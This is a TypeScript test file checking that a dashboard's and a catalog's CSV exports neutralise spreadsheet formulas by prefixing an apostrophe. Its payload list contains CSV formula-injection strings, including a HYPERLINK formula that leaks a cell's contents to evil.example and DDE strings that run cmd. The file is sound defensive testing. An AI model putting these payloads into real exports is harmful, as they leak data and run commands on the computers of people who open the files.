import { parse } from 'csv-parse/sync';
import { toCsv } from '../../../server/dashboard/dashboard-csv';
import { sheetToCsv } from '../../../domain/catalog/export-catalog';
import { readCsvSheet } from '../../../domain/catalog/read-sheets';
import { escapeCsvCell, unescapeCsvCell } from '../../../domain/security/csv-cells';

// What a spreadsheet program would run as a formula when the CSV is opened.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const cellsOf = (csv: string) => parse(csv, { bom: true }) as string[][];

describe('CSV exports never hand a spreadsheet a formula', () => {
  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))(
    'given a dashboard row whose text is %s, when exported, then the cell starts with an apostrophe',
    (_, payload) => {
      const [, row] = cellsOf(toCsv([{ department: payload, cases: 3 }]));
      expect(row[0]).toBe(`'${payload}`);
      expect(row[1]).toBe('3');
    },
  );

  it('given numbers and harmless text, when exported, then they are written unchanged (a negative number is no formula)', () => {
    const [, row] = cellsOf(toCsv([{ key: '住房', days: -3, rate: 0.5, note: 'a-b', email: 'x@y' }]));
    expect(row).toEqual(['住房', '-3', '0.5', 'a-b', 'x@y']);
  });

  it('given nested values and lists, when exported, then flattened cells are escaped too', () => {
    const [header, row] = cellsOf(toCsv([{ reduction: { note: '=1+1' }, tags: ['@x', 'y'] }]));
    expect(header).toEqual(['reduction.note', 'tags']);
    expect(row).toEqual(["'=1+1", "'@x;y"]);
  });

  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))(
    'given a catalog situation named %s, when exported as CSV and imported back, then the file is escaped and the name is unchanged',
    (_, payload) => {
      const csv = sheetToCsv('categories', [['housing', payload, 'Housing', 1]]);
      expect(cellsOf(csv)[1][1]).toBe(`'${payload}`);
      const sheet = readCsvSheet('categories', csv);
      expect(sheet.rows[0].values.name_zh).toBe(payload.trim()); // the import trims every cell
      expect(sheet.rows[0].values.sort).toBe('1');
    },
  );

  it('escape and unescape are inverse, and an apostrophe before plain text is kept', () => {
    for (const v of [...PAYLOADS, 'plain', "'quoted", "''=x", '']) expect(unescapeCsvCell(escapeCsvCell(v))).toBe(v);
    expect(unescapeCsvCell("'plain")).toBe("'plain");
  });
});
